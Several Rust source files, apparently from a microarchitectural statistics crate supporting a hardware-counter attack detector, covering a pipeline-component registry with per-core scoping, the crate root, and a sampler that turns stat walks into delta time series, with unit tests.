            ComponentId::ToL2Bus => "tol2bus",
            ComponentId::MemBus => "membus",
            ComponentId::MemCtrl => "mem_ctrls",
        }
    }

    /// Additional top-level prefixes the component's statistics are
    /// *also* published under (gem5-style alias groups). Empty for most
    /// components.
    pub const fn alias_prefixes(self) -> &'static [&'static str] {
        match self {
            ComponentId::Iew => &["lsq", "memDep"],
            ComponentId::Dtb => &["dtlb"],
            _ => &[],
        }
    }

    /// Human-readable component name (for tables and reports).
    pub const fn name(self) -> &'static str {
        match self {
            ComponentId::Fetch => "fetch",
            ComponentId::Decode => "decode",
            ComponentId::Rename => "rename",
            ComponentId::Iq => "instruction queue",
            ComponentId::Iew => "issue/execute/writeback",
            ComponentId::Commit => "commit",
            ComponentId::Rob => "reorder buffer",
            ComponentId::BranchPred => "branch predictor",
            ComponentId::Dtb => "data TLB",
            ComponentId::Itb => "instruction TLB",
            ComponentId::Cpu => "cpu",
            ComponentId::ICache => "L1 I-cache",
            ComponentId::DCache => "L1 D-cache",
            ComponentId::L2 => "L2 cache",
            ComponentId::ToL2Bus => "L1-L2 crossbar",
            ComponentId::MemBus => "memory bus",
            ComponentId::MemCtrl => "DRAM controller",
        }
    }
}

/// The registry: resolves statistic names to the component that owns them.
///
/// All resolution is static (the component set is fixed by the simulated
/// machine), so the registry is a namespace rather than an instance — there
/// is exactly one taxonomy.
#[derive(Debug, Clone, Copy)]
pub struct ComponentRegistry;

impl ComponentRegistry {
    /// The component owning statistic `name`, resolved from the name's
    /// first dotted segment. Dotless names are CPU-level counters. Returns
    /// `None` for prefixes no registered component publishes under.
    pub fn component_of(name: &str) -> Option<ComponentId> {
        let (seg, dotted) = match name.split_once('.') {
            Some((seg, _)) => (seg, true),
            None => (name, false),
        };
        if !dotted {
            return Some(ComponentId::Cpu);
        }
        ComponentId::ALL.into_iter().find(|c| {
            (!c.prefix().is_empty() && c.prefix() == seg) || c.alias_prefixes().contains(&seg)
        })
    }

    /// The component *label* of statistic `name`: the matched prefix with
    /// TLB aliases folded (`dtlb` → `dtb`) and dotless names labelled
    /// `cpu`. Unlike [`ComponentRegistry::component_of`], alias prefixes
    /// keep their own label (`lsq.*` → `"lsq"`), matching how the feature
    /// selector has always grouped columns; unknown prefixes fall through
    /// to the raw first segment.
    pub fn label_of(name: &str) -> &str {
        let seg = name.split('.').next().unwrap_or(name);
        match seg {
            "dtlb" => "dtb",
            _ if !name.contains('.') => "cpu",
            seg => seg,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_exactly_17_components() {
        assert_eq!(ComponentId::ALL.len(), 17);
        let set: std::collections::HashSet<_> = ComponentId::ALL.into_iter().collect();
        assert_eq!(set.len(), 17, "component ids must be distinct");
    }

    #[test]
    fn prefixes_are_unique_across_components() {
        let mut seen = std::collections::HashSet::new();
        for c in ComponentId::ALL {
            if !c.prefix().is_empty() {
                assert!(seen.insert(c.prefix()), "duplicate prefix {}", c.prefix());
            }
            for a in c.alias_prefixes() {
                assert!(seen.insert(a), "duplicate alias prefix {a}");
            }
        }
    }

    #[test]
    fn alias_names_resolve_to_their_physical_component() {
        assert_eq!(
            ComponentRegistry::component_of("lsq.thread0.squashedLoads"),
            Some(ComponentId::Iew)
        );
        assert_eq!(
            ComponentRegistry::component_of("memDep.conflictingStores"),
            Some(ComponentId::Iew)
        );
        assert_eq!(
            ComponentRegistry::component_of("dtlb.rdMisses"),
            Some(ComponentId::Dtb)
        );
        assert_eq!(
            ComponentRegistry::component_of("numCycles"),
            Some(ComponentId::Cpu)
        );
        assert_eq!(ComponentRegistry::component_of("bogus.stat"), None);
    }

    #[test]
    fn labels_match_the_legacy_prefix_convention() {
        assert_eq!(ComponentRegistry::label_of("fetch.SquashCycles"), "fetch");
        assert_eq!(ComponentRegistry::label_of("lsq.thread0.forwLoads"), "lsq");
        assert_eq!(ComponentRegistry::label_of("dtlb.rdMisses"), "dtb");
        assert_eq!(ComponentRegistry::label_of("dtb.rdMisses"), "dtb");
        assert_eq!(ComponentRegistry::label_of("numCycles"), "cpu");
    }
}
