//! The canonical pipeline-component registry.
//!
//! PerSpectron's detector replicates features across *17 distinct pipeline
//! components* (§V): the out-of-order core's stages and structures plus the
//! memory hierarchy's caches, buses and DRAM controller. Before this module
//! existed, that taxonomy lived in three independent string-parsing copies
//! (feature selection, stat registration, the census binary); this registry
//! is the single source of truth they all resolve through.
//!
//! A [`ComponentId`] is the component itself; its prefixes
//! (`ComponentId::prefixes`) are the dotted-stat-name prefixes the component
//! publishes under. Some components publish under several prefixes because
//! gem5 (and the paper's Table I) exposes the same physical unit under alias
//! names: the IEW unit also surfaces its LSQ and memory-dependence groups at
//! top level (`lsq.*`, `memDep.*`), and the data TLB is spelled both `dtb`
//! and `dtlb`. Aliased statistics are perfectly correlated replicas — which
//! is exactly the paper's replicated-feature premise.
//!
//! Multi-core machines namespace the core-local components per core: the
//! same physical taxonomy appears once per core under a `core<N>.` scope
//! (`core0.fetch.SquashCycles`, `core1.dcache.ReadReq_misses`), while the
//! shared uncore components (L2, buses, DRAM controller) stay unscoped.
//! [`ComponentRegistry::scope_of`] splits a name into its core scope and
//! base name; all other resolution happens on the base name, so single-core
//! (flat) schemas resolve exactly as they always have.
//!
//! # Example
//!
//! ```
//! use uarch_stats::registry::{ComponentId, ComponentRegistry};
//!
//! assert_eq!(ComponentId::ALL.len(), 17);
//! assert_eq!(
//!     ComponentRegistry::component_of("fetch.SquashCycles"),
//!     Some(ComponentId::Fetch)
//! );
//! // Aliases resolve to the same physical component...
//! assert_eq!(
//!     ComponentRegistry::component_of("lsq.thread0.forwLoads"),
//!     Some(ComponentId::Iew)
//! );
//! // ...while the legacy prefix label is preserved for feature grouping.
//! assert_eq!(ComponentRegistry::label_of("lsq.thread0.forwLoads"), "lsq");
//! assert_eq!(ComponentRegistry::label_of("dtlb.rdMisses"), "dtb");
//! // Per-core scopes resolve to the same components.
//! assert_eq!(
//!     ComponentRegistry::component_of("core1.fetch.SquashCycles"),
//!     Some(ComponentId::Fetch)
//! );
//! assert_eq!(ComponentRegistry::scope_of("core1.fetch.SquashCycles"), Some(1));
//! ```

/// One of the paper's 17 pipeline components.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum ComponentId {
    /// Instruction fetch (including the I-TLB walk counters under `itb`
    /// stay separate — see [`ComponentId::Itb`]).
    Fetch,
    /// Decode.
    Decode,
    /// Register rename.
    Rename,
    /// Instruction queue / issue select.
    Iq,
    /// Issue/execute/writeback, including its LSQ and memory-dependence
    /// sub-units (also published under the top-level `lsq.*` / `memDep.*`
    /// aliases).
    Iew,
    /// Commit.
    Commit,
    /// Reorder buffer.
    Rob,
    /// Branch predictor (tournament tables, BTB, RAS).
    BranchPred,
    /// Data TLB (published as both `dtb` and `dtlb`).
    Dtb,
    /// Instruction TLB.
    Itb,
    /// CPU-level counters (dotless names such as `numCycles`).
    Cpu,
    /// L1 instruction cache.
    ICache,
    /// L1 data cache.
    DCache,
    /// Shared L2 cache.
    L2,
    /// L1↔L2 crossbar.
    ToL2Bus,
    /// Memory bus (L2↔DRAM).
    MemBus,
    /// DRAM controller.
    MemCtrl,
}

impl ComponentId {
    /// Every component, in the canonical (schema visit) order.
    pub const ALL: [ComponentId; 17] = [
        ComponentId::Fetch,
        ComponentId::Decode,
        ComponentId::Rename,
        ComponentId::Iq,
        ComponentId::Iew,
        ComponentId::Commit,
        ComponentId::Rob,
        ComponentId::BranchPred,
        ComponentId::Dtb,
        ComponentId::Itb,
        ComponentId::Cpu,
        ComponentId::ICache,
        ComponentId::DCache,
        ComponentId::L2,
        ComponentId::ToL2Bus,
        ComponentId::MemBus,
        ComponentId::MemCtrl,
    ];

    /// The component's primary stat-name prefix — the one the simulator
    /// registers the component's stat group under. [`ComponentId::Cpu`] is
    /// the exception: its counters are dotless, so its prefix is empty.
    pub const fn prefix(self) -> &'static str {
        match self {
            ComponentId::Fetch => "fetch",
            ComponentId::Decode => "decode",
            ComponentId::Rename => "rename",
            ComponentId::Iq => "iq",
            ComponentId::Iew => "iew",
            ComponentId::Commit => "commit",
            ComponentId::Rob => "rob",
            ComponentId::BranchPred => "branchPred",
            ComponentId::Dtb => "dtb",
            ComponentId::Itb => "itb",
            ComponentId::Cpu => "",
            ComponentId::ICache => "icache",
            ComponentId::DCache => "dcache",
            ComponentId::L2 => "l2",
            ComponentId::ToL2Bus => "tol2bus",
            ComponentId::MemBus => "membus",
            ComponentId::MemCtrl => "mem_ctrls",
        }
    }

    /// Additional top-level prefixes the component's statistics are
    /// *also* published under (gem5-style alias groups). Empty for most
    /// components.
    pub const fn alias_prefixes(self) -> &'static [&'static str] {
        match self {
            ComponentId::Iew => &["lsq", "memDep"],
            ComponentId::Dtb => &["dtlb"],
            _ => &[],
        }
    }

    /// Whether the component is *shared uncore* state in a multi-core
    /// machine (one instance regardless of core count) rather than
    /// core-local state replicated under a `core<N>.` scope.
    pub const fn is_shared(self) -> bool {
        matches!(
            self,
            ComponentId::L2 | ComponentId::ToL2Bus | ComponentId::MemBus | ComponentId::MemCtrl
        )
    }

    /// The 13 components replicated per core in a multi-core machine.
    pub const CORE_LOCAL: [ComponentId; 13] = [
        ComponentId::Fetch,
        ComponentId::Decode,
        ComponentId::Rename,
        ComponentId::Iq,
        ComponentId::Iew,
        ComponentId::Commit,
        ComponentId::Rob,
        ComponentId::BranchPred,
        ComponentId::Dtb,
        ComponentId::Itb,
        ComponentId::Cpu,
        ComponentId::ICache,
        ComponentId::DCache,
    ];

    /// The 4 shared uncore components (single instance per machine).
    pub const SHARED: [ComponentId; 4] = [
        ComponentId::L2,
        ComponentId::ToL2Bus,
        ComponentId::MemBus,
        ComponentId::MemCtrl,
    ];

    /// Human-readable component name (for tables and reports).
    pub const fn name(self) -> &'static str {
        match self {
            ComponentId::Fetch => "fetch",
            ComponentId::Decode => "decode",
            ComponentId::Rename => "rename",
            ComponentId::Iq => "instruction queue",
            ComponentId::Iew => "issue/execute/writeback",
            ComponentId::Commit => "commit",
            ComponentId::Rob => "reorder buffer",
            ComponentId::BranchPred => "branch predictor",
            ComponentId::Dtb => "data TLB",
            ComponentId::Itb => "instruction TLB",
            ComponentId::Cpu => "cpu",
            ComponentId::ICache => "L1 I-cache",
            ComponentId::DCache => "L1 D-cache",
            ComponentId::L2 => "L2 cache",
            ComponentId::ToL2Bus => "L1-L2 crossbar",
            ComponentId::MemBus => "memory bus",
            ComponentId::MemCtrl => "DRAM controller",
        }
    }
}

/// The registry: resolves statistic names to the component that owns them.
///
/// All resolution is static (the component set is fixed by the simulated
/// machine), so the registry is a namespace rather than an instance — there
/// is exactly one taxonomy.
#[derive(Debug, Clone, Copy)]
pub struct ComponentRegistry;

impl ComponentRegistry {
    /// Splits a statistic name into its per-core scope (if any) and the
    /// scope-local base name: `core1.fetch.SquashCycles` →
    /// `(Some(1), "fetch.SquashCycles")`, while flat single-core names
    /// (and the shared uncore names) pass through unscoped.
    pub fn split_scope(name: &str) -> (Option<usize>, &str) {
        if let Some(rest) = name.strip_prefix("core") {
            if let Some((digits, base)) = rest.split_once('.') {
                if !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit()) {
                    if let Ok(n) = digits.parse::<usize>() {
                        return (Some(n), base);
                    }
                }
            }
        }
        (None, name)
    }

    /// The core scope of statistic `name` (`core0.…` → `Some(0)`), or
    /// `None` for flat and shared-uncore names.
    pub fn scope_of(name: &str) -> Option<usize> {
        Self::split_scope(name).0
    }

    /// The component owning statistic `name`, resolved from the name's
    /// first dotted segment after stripping any `core<N>.` scope. Dotless
    /// base names are CPU-level counters. Returns `None` for prefixes no
    /// registered component publishes under.
    pub fn component_of(name: &str) -> Option<ComponentId> {
        let (_, base) = Self::split_scope(name);
        let (seg, dotted) = match base.split_once('.') {
            Some((seg, _)) => (seg, true),
            None => (base, false),
        };
        if !dotted {
            return Some(ComponentId::Cpu);
        }
        ComponentId::ALL.into_iter().find(|c| {
            (!c.prefix().is_empty() && c.prefix() == seg) || c.alias_prefixes().contains(&seg)
        })
    }

    /// The component *label* of statistic `name`: the matched prefix with
    /// TLB aliases folded (`dtlb` → `dtb`), dotless names labelled `cpu`,
    /// and any `core<N>.` scope stripped. Unlike
    /// [`ComponentRegistry::component_of`], alias prefixes keep their own
    /// label (`lsq.*` → `"lsq"`), matching how the feature selector has
    /// always grouped columns; unknown prefixes fall through to the raw
    /// first segment.
    pub fn label_of(name: &str) -> &str {
        let (_, base) = Self::split_scope(name);
        let seg = base.split('.').next().unwrap_or(base);
        match seg {
            "dtlb" => "dtb",
            _ if !base.contains('.') => "cpu",
            seg => seg,
        }
    }

    /// The *scoped* component label: `label_of` qualified with the core
    /// scope when one is present (`core1.fetch.SquashCycles` →
    /// `"core1.fetch"`), so multi-core feature selection keeps one feature
    /// bank per core per component instead of collapsing attacker and
    /// victim activity into one bank.
    pub fn scoped_label_of(name: &str) -> String {
        match Self::split_scope(name) {
            (Some(n), _) => format!("core{n}.{}", Self::label_of(name)),
            (None, _) => Self::label_of(name).to_string(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_exactly_17_components() {
        assert_eq!(ComponentId::ALL.len(), 17);
        let set: std::collections::HashSet<_> = ComponentId::ALL.into_iter().collect();
        assert_eq!(set.len(), 17, "component ids must be distinct");
    }

    #[test]
    fn prefixes_are_unique_across_components() {
        let mut seen = std::collections::HashSet::new();
        for c in ComponentId::ALL {
            if !c.prefix().is_empty() {
                assert!(seen.insert(c.prefix()), "duplicate prefix {}", c.prefix());
            }
            for a in c.alias_prefixes() {
                assert!(seen.insert(a), "duplicate alias prefix {a}");
            }
        }
    }

    #[test]
    fn alias_names_resolve_to_their_physical_component() {
        assert_eq!(
            ComponentRegistry::component_of("lsq.thread0.squashedLoads"),
            Some(ComponentId::Iew)
        );
        assert_eq!(
            ComponentRegistry::component_of("memDep.conflictingStores"),
            Some(ComponentId::Iew)
        );
        assert_eq!(
            ComponentRegistry::component_of("dtlb.rdMisses"),
            Some(ComponentId::Dtb)
        );
        assert_eq!(
            ComponentRegistry::component_of("numCycles"),
            Some(ComponentId::Cpu)
        );
        assert_eq!(ComponentRegistry::component_of("bogus.stat"), None);
    }

    #[test]
    fn labels_match_the_legacy_prefix_convention() {
        assert_eq!(ComponentRegistry::label_of("fetch.SquashCycles"), "fetch");
        assert_eq!(ComponentRegistry::label_of("lsq.thread0.forwLoads"), "lsq");
        assert_eq!(ComponentRegistry::label_of("dtlb.rdMisses"), "dtb");
        assert_eq!(ComponentRegistry::label_of("dtb.rdMisses"), "dtb");
        assert_eq!(ComponentRegistry::label_of("numCycles"), "cpu");
    }

    #[test]
    fn core_scopes_split_and_resolve() {
        assert_eq!(
            ComponentRegistry::split_scope("core0.fetch.SquashCycles"),
            (Some(0), "fetch.SquashCycles")
        );
        assert_eq!(
            ComponentRegistry::split_scope("core12.numCycles"),
            (Some(12), "numCycles")
        );
        // Not a scope: no digits, no dot, or a non-numeric segment.
        assert_eq!(
            ComponentRegistry::split_scope("commit.branches"),
            (None, "commit.branches")
        );
        assert_eq!(ComponentRegistry::split_scope("coreX.y"), (None, "coreX.y"));
        assert_eq!(
            ComponentRegistry::split_scope("core.thing"),
            (None, "core.thing")
        );

        assert_eq!(
            ComponentRegistry::component_of("core1.dcache.ReadReq_misses"),
            Some(ComponentId::DCache)
        );
        assert_eq!(
            ComponentRegistry::component_of("core0.numCycles"),
            Some(ComponentId::Cpu)
        );
        assert_eq!(
            ComponentRegistry::component_of("core0.lsq.thread0.forwLoads"),
            Some(ComponentId::Iew)
        );
        assert_eq!(ComponentRegistry::component_of("core0.bogus.x"), None);
        assert_eq!(ComponentRegistry::scope_of("l2.demand_misses"), None);
    }

    #[test]
    fn scoped_labels_qualify_per_core_banks() {
        assert_eq!(
            ComponentRegistry::label_of("core1.fetch.SquashCycles"),
            "fetch"
        );
        assert_eq!(ComponentRegistry::label_of("core1.dtlb.rdMisses"), "dtb");
        assert_eq!(ComponentRegistry::label_of("core1.numCycles"), "cpu");
        assert_eq!(
            ComponentRegistry::scoped_label_of("core1.fetch.SquashCycles"),
            "core1.fetch"
        );
        assert_eq!(
            ComponentRegistry::scoped_label_of("core0.numCycles"),
            "core0.cpu"
        );
        assert_eq!(ComponentRegistry::scoped_label_of("l2.demand_misses"), "l2");
    }

    #[test]
    fn core_local_and_shared_partition_the_component_set() {
        let mut all: Vec<ComponentId> = ComponentId::CORE_LOCAL.to_vec();
        all.extend(ComponentId::SHARED);
        all.sort();
        let mut expect = ComponentId::ALL.to_vec();
        expect.sort();
        assert_eq!(all, expect);
        for c in ComponentId::SHARED {
            assert!(c.is_shared());
        }
        for c in ComponentId::CORE_LOCAL {
            assert!(!c.is_shared());
        }
    }
}
