//! gem5-style hierarchical microarchitectural statistics.
//!
//! Every component of the simulated machine (fetch unit, rename unit, caches,
//! DRAM controller, ...) owns a *stat group*: a plain struct whose fields are
//! statistic values ([`Counter`], [`Scalar`], [`Distribution`], or a vector
//! stat keyed by an enum, e.g. per-memory-command traffic). Groups are walked by a
//! [`StatVisitor`], producing flat, dotted gem5-style names such as
//! `fetch.SquashCycles` or `tol2bus.trans_dist::ReadSharedReq`.
//!
//! The [`sampler`] module turns repeated walks into a multi-dimensional time
//! series: one row of per-interval deltas for every N committed instructions,
//! exactly the trace format the PerSpectron paper collects from gem5. Names
//! are resolved once per run into a shared [`Schema`]; per-interval rows are
//! value-only and stream through the [`SampleSink`] trait into columnar
//! [`SampleTrace`]s or online consumers.
//!
//! # Example
//!
//! ```
//! use uarch_stats::{stat_group, Counter, StatGroup, Snapshot};
//!
//! stat_group! {
//!     /// Statistics for a toy component.
//!     pub struct ToyStats {
//!         /// Cycles spent squashing.
//!         pub squash_cycles: Counter => "SquashCycles",
//!     }
//! }
//!
//! let mut stats = ToyStats::default();
//! stats.squash_cycles.add(3);
//! let snap = Snapshot::of(&stats, "toy");
//! assert_eq!(snap.get("toy.SquashCycles"), Some(3.0));
//! ```
//!
#![warn(missing_docs)]

pub mod dist;
pub mod group;
pub mod invariant;
pub mod registry;
pub mod sampler;
pub mod value;
pub mod vecstat;

pub use dist::Distribution;
pub use group::{StatGroup, StatItem, StatVisitor};
pub use invariant::{InvariantKind, StatInvariant, Violation};
pub use registry::{ComponentId, ComponentRegistry};
pub use sampler::{SampleSink, SampleTrace, Sampler, Schema, Snapshot};
pub use value::{Average, Counter, Scalar};
pub use vecstat::{StatKey, VectorStat};
