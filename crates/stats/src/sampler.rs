//! Sampling machinery: turning repeated stat walks into the
//! multi-dimensional time series the detector trains on.
//!
//! The data path is *schema-resolved*: the dotted stat names are walked
//! exactly once per run (building a [`Schema`]), and every subsequent
//! sample only collects values against it. Per-interval rows flow through
//! the [`SampleSink`] trait, so callers can stream (score online, forward
//! over a channel) or materialize (append to a columnar [`SampleTrace`])
//! without the sampler ever accumulating state itself.

use std::collections::HashMap;
use std::sync::Arc;

use crate::group::{join_name, StatGroup, StatVisitor};

/// The (ordered) set of statistic names produced by a stat group walk.
///
/// Resolved once per run; later samples only collect values and assert the
/// count matches, avoiding per-sample string allocation. Clones share the
/// underlying storage, so a schema can be handed to worker threads and
/// sinks for free.
#[derive(Debug, Clone, Default)]
pub struct Schema {
    names: Arc<Vec<String>>,
    index: Arc<HashMap<String, usize>>,
}

impl Schema {
    /// Walks `group` under `prefix` and resolves its schema (names only).
    pub fn of<G: StatGroup + ?Sized>(group: &G, prefix: &str) -> Self {
        struct NameCollector {
            names: Vec<String>,
        }
        impl StatVisitor for NameCollector {
            fn scalar(&mut self, prefix: &str, name: &str, _value: f64) {
                self.names.push(join_name(prefix, name));
            }
        }
        let mut c = NameCollector { names: Vec::new() };
        group.visit(prefix, &mut c);
        Self::from_names(c.names)
    }

    /// Builds a schema from an explicit name list.
    pub fn from_names(names: Vec<String>) -> Self {
        let index = names
            .iter()
            .enumerate()
            .map(|(i, n)| (n.clone(), i))
            .collect();
        Self {
            names: Arc::new(names),
            index: Arc::new(index),
        }
    }

    /// The schema a snapshot was taken against (shared, not rebuilt).
    pub fn from_snapshot(snap: &Snapshot) -> Self {
        snap.schema().clone()
    }

    /// Number of statistics in the schema.
    pub fn len(&self) -> usize {
        self.names.len()
    }

    /// Whether the schema is empty.
    pub fn is_empty(&self) -> bool {
        self.names.is_empty()
    }

    /// All names, in visit order.
    pub fn names(&self) -> &[String] {
        &self.names
    }

    /// The column index of `name`, if present (O(1) hash lookup).
    pub fn index_of(&self, name: &str) -> Option<usize> {
        self.index.get(name).copied()
    }

    /// The name of column `i`.
    ///
    /// # Panics
    ///
    /// Panics if `i` is out of range.
    pub fn name(&self, i: usize) -> &str {
        &self.names[i]
    }

    /// Whether two schemas share the same underlying name storage (and are
    /// therefore trivially identical).
    pub fn same_as(&self, other: &Schema) -> bool {
        Arc::ptr_eq(&self.names, &other.names)
    }
}

/// One full walk of a stat group: a shared [`Schema`] plus current values.
///
/// Values are stored columnar against the schema; probing by name via
/// [`Snapshot::get`] is an O(1) index lookup.
#[derive(Debug, Clone, Default)]
pub struct Snapshot {
    schema: Schema,
    values: Vec<f64>,
}

impl Snapshot {
    /// Walks `group` under `prefix` and captures every statistic,
    /// resolving a fresh schema (names + values in a single walk).
    pub fn of<G: StatGroup + ?Sized>(group: &G, prefix: &str) -> Self {
        struct FullCollector {
            names: Vec<String>,
            values: Vec<f64>,
        }
        impl StatVisitor for FullCollector {
            fn scalar(&mut self, prefix: &str, name: &str, value: f64) {
                self.names.push(join_name(prefix, name));
                self.values.push(value);
            }
        }
        let mut c = FullCollector {
            names: Vec::new(),
            values: Vec::new(),
        };
        group.visit(prefix, &mut c);
        Self {
            schema: Schema::from_names(c.names),
            values: c.values,
        }
    }

    /// Walks `group` under `prefix` collecting values only, against an
    /// already-resolved schema — no string allocation.
    ///
    /// # Panics
    ///
    /// Panics if the walk produces a different number of statistics than
    /// the schema.
    pub fn with_schema<G: StatGroup + ?Sized>(schema: &Schema, group: &G, prefix: &str) -> Self {
        let mut values = Vec::with_capacity(schema.len());
        let mut c = ValueCollector {
            values: &mut values,
        };
        group.visit(prefix, &mut c);
        assert_eq!(
            values.len(),
            schema.len(),
            "stat group shape does not match schema"
        );
        Self {
            schema: schema.clone(),
            values,
        }
    }

    /// The schema the values are aligned with.
    pub fn schema(&self) -> &Schema {
        &self.schema
    }

    /// Returns the value of statistic `name`, if present (O(1)).
    pub fn get(&self, name: &str) -> Option<f64> {
        self.schema.index_of(name).map(|i| self.values[i])
    }

    /// All statistic names, in visit order.
    pub fn names(&self) -> &[String] {
        self.schema.names()
    }

    /// All values, aligned with [`Snapshot::names`].
    pub fn values(&self) -> &[f64] {
        &self.values
    }

    /// Number of statistics captured.
    pub fn len(&self) -> usize {
        self.values.len()
    }

    /// Whether no statistic was captured.
    pub fn is_empty(&self) -> bool {
        self.values.is_empty()
    }
}

/// Receives one per-interval delta row at a time from a [`Sampler`].
///
/// This is the streaming seam of the pipeline: the producer (a simulated
/// core driving a sampler) never accumulates samples itself — it pushes
/// each row into a sink, which may store it ([`SampleTrace`]), featurize
/// and classify it online, or fan it out further.
pub trait SampleSink {
    /// Called once per sampling interval with the committed-instruction
    /// count at the sampling point and the per-column deltas since the
    /// previous sample. The row borrow is only valid for the duration of
    /// the call.
    fn on_sample(&mut self, insts: u64, row: &[f64]);
}

/// Fast value-only collector reusing a caller-owned buffer.
struct ValueCollector<'a> {
    values: &'a mut Vec<f64>,
}

impl StatVisitor for ValueCollector<'_> {
    #[inline]
    fn scalar(&mut self, _prefix: &str, _name: &str, value: f64) {
        self.values.push(value);
    }
}

/// Samples a stat group at intervals, producing per-interval deltas.
///
/// Statistics are cumulative; the paper's traces are per-window activity,
/// so each sample is `current - previous` for every column. The sampler
/// owns three reusable buffers (previous, current, delta), so steady-state
/// sampling via [`Sampler::sample_into`] allocates nothing itself — the
/// only per-sample allocations left are the stat walk's own nested-prefix
/// joins, ~40× fewer than rebuilding a named snapshot per interval.
///
/// # Example
///
/// ```
/// use uarch_stats::{stat_group, Counter, Sampler};
///
/// stat_group! {
///     /// Toy.
///     pub struct T { /// c.
///         pub c: Counter => "c" }
/// }
/// let mut t = T::default();
/// let mut s = Sampler::new(&t, "t");
/// t.c.add(5);
/// assert_eq!(s.sample(&t), vec![5.0]);
/// t.c.add(2);
/// assert_eq!(s.sample(&t), vec![2.0]);
/// ```
#[derive(Debug)]
pub struct Sampler {
    schema: Schema,
    prefix: String,
    prev: Vec<f64>,
    cur: Vec<f64>,
    delta: Vec<f64>,
}

impl Sampler {
    /// Creates a sampler whose baseline is the group's current values. The
    /// schema is resolved here, once.
    pub fn new<G: StatGroup + ?Sized>(group: &G, prefix: &str) -> Self {
        let snap = Snapshot::of(group, prefix);
        let width = snap.len();
        Self {
            schema: snap.schema().clone(),
            prefix: prefix.to_string(),
            prev: snap.values().to_vec(),
            cur: Vec::with_capacity(width),
            delta: Vec::with_capacity(width),
        }
    }

    /// The schema shared by every sample row.
    pub fn schema(&self) -> &Schema {
        &self.schema
    }

    /// Walks the group into the current-value buffer and computes the
    /// delta row in place; the result lives in `self.delta`.
    fn advance<G: StatGroup + ?Sized>(&mut self, group: &G) {
        self.cur.clear();
        let mut c = ValueCollector {
            values: &mut self.cur,
        };
        group.visit(&self.prefix, &mut c);
        assert_eq!(
            self.cur.len(),
            self.schema.len(),
            "stat group shape changed between samples"
        );
        self.delta.clear();
        self.delta.extend(
            self.cur
                .iter()
                .zip(&self.prev)
                .map(|(cur, prev)| cur - prev),
        );
        std::mem::swap(&mut self.prev, &mut self.cur);
    }

    /// Takes a sample: returns per-column deltas since the previous sample
    /// (or since construction) and advances the baseline.
    ///
    /// # Panics
    ///
    /// Panics if the group's walk produces a different number of statistics
    /// than the schema (the group's shape must not change between samples).
    pub fn sample<G: StatGroup + ?Sized>(&mut self, group: &G) -> Vec<f64> {
        self.advance(group);
        self.delta.clone()
    }

    /// Takes a sample and emits it to `sink` without allocating: the delta
    /// row is computed in the sampler's reusable buffers and passed by
    /// reference. `insts` is the committed-instruction count at this
    /// sampling point, forwarded verbatim to the sink.
    ///
    /// # Panics
    ///
    /// Panics under the same shape-change condition as [`Sampler::sample`].
    pub fn sample_into<G: StatGroup + ?Sized>(
        &mut self,
        group: &G,
        insts: u64,
        sink: &mut dyn SampleSink,
    ) {
        self.advance(group);
        sink.on_sample(insts, &self.delta);
    }
}

/// A recorded multi-dimensional time series: one delta row per sampling
/// point, plus the committed-instruction count at each point.
///
/// Storage is columnar-flat: all rows live in one contiguous `Vec<f64>`
/// against the shared [`Schema`], one cache-friendly slab instead of a
/// `Vec` of row allocations.
#[derive(Debug, Clone)]
pub struct SampleTrace {
    schema: Schema,
    values: Vec<f64>,
    insts: Vec<u64>,
}

impl SampleTrace {
    /// Creates an empty trace over `schema`.
    pub fn new(schema: Schema) -> Self {
        Self {
            schema,
            values: Vec::new(),
            insts: Vec::new(),
        }
    }

    /// Appends one sample row taken at `insts` committed instructions.
    ///
    /// # Panics
    ///
    /// Panics if the row width does not match the schema.
    pub fn push(&mut self, insts: u64, row: &[f64]) {
        assert_eq!(row.len(), self.schema.len(), "row width mismatch");
        self.values.extend_from_slice(row);
        self.insts.push(insts);
    }

    /// The schema of every row.
    pub fn schema(&self) -> &Schema {
        &self.schema
    }

    /// The `i`-th sample row.
    ///
    /// # Panics
    ///
    /// Panics if `i` is out of range.
    pub fn row(&self, i: usize) -> &[f64] {
        let w = self.schema.len();
        &self.values[i * w..(i + 1) * w]
    }

    /// Iterates over the sample rows, oldest first.
    pub fn rows(&self) -> impl ExactSizeIterator<Item = &[f64]> + '_ {
        (0..self.len()).map(move |i| self.row(i))
    }

    /// The flat columnar value storage (row-major, `len() × schema.len()`).
    pub fn flat_values(&self) -> &[f64] {
        &self.values
    }

    /// Committed-instruction counts aligned with [`SampleTrace::rows`].
    pub fn instruction_counts(&self) -> &[u64] {
        &self.insts
    }

    /// Number of samples.
    pub fn len(&self) -> usize {
        self.insts.len()
    }

    /// Whether the trace holds no samples.
    pub fn is_empty(&self) -> bool {
        self.insts.is_empty()
    }

    /// The column of values for statistic `name` across all samples, if the
    /// statistic exists.
    pub fn column(&self, name: &str) -> Option<Vec<f64>> {
        let i = self.schema.index_of(name)?;
        Some(self.rows().map(|r| r[i]).collect())
    }
}

impl SampleSink for SampleTrace {
    fn on_sample(&mut self, insts: u64, row: &[f64]) {
        self.push(insts, row);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{stat_group, Counter};

    stat_group! {
        /// Two-counter test group.
        pub struct G {
            /// a.
            pub a: Counter => "a",
            /// b.
            pub b: Counter => "b",
        }
    }

    #[test]
    fn sampler_returns_deltas_not_cumulative() {
        let mut g = G::default();
        g.a.add(10);
        let mut s = Sampler::new(&g, "g");
        g.a.add(5);
        g.b.add(1);
        assert_eq!(s.sample(&g), vec![5.0, 1.0]);
        assert_eq!(s.sample(&g), vec![0.0, 0.0]);
    }

    #[test]
    fn schema_index_lookup() {
        let g = G::default();
        let s = Sampler::new(&g, "g");
        assert_eq!(s.schema().index_of("g.b"), Some(1));
        assert_eq!(s.schema().index_of("g.missing"), None);
        assert_eq!(s.schema().name(0), "g.a");
    }

    #[test]
    fn snapshot_get_is_schema_indexed() {
        let mut g = G::default();
        g.b.add(3);
        let snap = Snapshot::of(&g, "g");
        assert_eq!(snap.get("g.b"), Some(3.0));
        assert_eq!(snap.get("g.a"), Some(0.0));
        assert_eq!(snap.get("nope"), None);
    }

    #[test]
    fn snapshot_with_schema_reuses_resolved_names() {
        let mut g = G::default();
        let schema = Schema::of(&g, "g");
        g.a.add(7);
        let snap = Snapshot::with_schema(&schema, &g, "g");
